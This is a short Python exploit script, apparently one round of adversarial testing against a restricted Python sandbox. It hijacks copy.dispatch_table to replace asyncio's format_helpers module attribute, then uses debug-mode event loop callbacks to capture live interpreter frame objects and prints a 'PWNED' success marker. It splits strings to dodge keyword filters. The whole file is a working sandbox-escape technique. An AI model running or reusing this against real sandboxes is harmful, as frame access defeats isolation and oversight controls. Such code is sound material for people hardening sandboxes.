# adversary round 8: 011: (010 fixed) copy.dispatch_table write of asyncio.events.format_helpers; debug-mode events.Handle hands sys._getframe(1) frames to our extract_stack
import asyncio
import copy
import json

got = []


class FH:
    def extract_stack(self, f=None, limit=None):
        got.append(f)
        return []

    def __getattr__(self, name):
        return lambda *a, **k: ''


def reductor(obj):
    return (lambda: asyncio.events, (), ({'format' + '_helpers': FH()}, None))


copy.dispatch_table[json.JSONEncoder] = reductor
copy.copy(json.JSONEncoder())

loop = asyncio.new_event_loop()
loop.set_debug(True)
loop.call_soon(print, 'callback ran')
loop.run_until_complete(asyncio.sleep(0))
try:
    loop.close()
except Exception as e:
    print('close:', e)
frames = [f for f in got if f is not None]
print(len(frames), type(frames[0]), frames[0])
print([repr(f) for f in frames[:3]])
if 'frame' in repr(type(frames[0])):
    print('PWN' + 'ED')
